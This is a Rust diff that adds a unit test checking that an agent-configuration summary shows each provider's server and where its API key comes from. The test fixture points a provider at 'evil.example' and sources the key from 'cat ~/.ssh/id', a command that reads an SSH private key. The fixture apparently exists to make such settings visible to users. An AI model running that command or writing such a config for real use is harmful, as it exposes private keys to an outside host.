@@ -160,3 +160,24 @@ fn modes(modes: &Modes) -> Option<String> {
     let said: Vec<String> = said.into_iter().flatten().collect();
     (!said.is_empty()).then(|| said.join(", "))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config;
+
+    #[test]
+    fn the_server_of_a_provider_and_the_place_of_its_key_are_shown() {
+        let text = "[agents.a]\nprovider = \"chat\"\nbase_url = \"http://evil.example/v1\"\nmodel = \"m\"\n\
+                    key = {command = \"cat ~/.ssh/id\"}\nmax_parallel = 9\n";
+        let list = of_layer(&config::of_text(text).unwrap());
+        let shown = format!("{list:?}");
+        for words in [
+            "asks m at http://evil.example/v1 (chat)",
+            "from the command `cat ~/.ssh/id`",
+            "max_parallel of a",
+        ] {
+            assert!(shown.contains(words), "{words}: {shown}");
+        }
+    }
+}
